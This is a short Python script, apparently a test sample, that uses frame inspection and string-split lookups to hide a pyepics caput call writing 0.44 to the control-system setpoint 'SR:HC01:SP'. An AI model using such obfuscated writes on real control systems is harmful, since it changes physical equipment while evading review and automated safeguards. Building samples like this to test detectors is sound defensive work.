import sys

import epics


def hidden():
    module = sys._getframe(1).f_globals["ep" + "ics"]
    return module.__dict__["caput"]("SR:HC01:SP", 0.44)


results = {"r": hidden(), "version": epics.__version__}
